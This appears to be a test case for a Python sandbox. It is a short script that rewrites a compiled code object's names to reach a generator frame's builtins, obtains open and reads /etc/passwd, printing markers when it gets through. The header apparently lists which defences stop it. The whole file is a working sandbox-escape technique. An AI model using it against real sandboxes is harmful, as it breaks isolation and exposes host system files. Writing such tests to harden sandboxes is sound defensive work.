# tries: a code object from compile() with other names
# class: text
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


g = (x for x in ())
code = compile("g.gi_running", "<text>", "eval")
names = tuple("gi_frame" if n == "gi_running" else n for n in code.co_names)
texts = tuple("gi_frame" if t == "gi_running" else t for t in code.co_consts)
use(pick(eval(code.replace(co_names=names, co_consts=texts))))
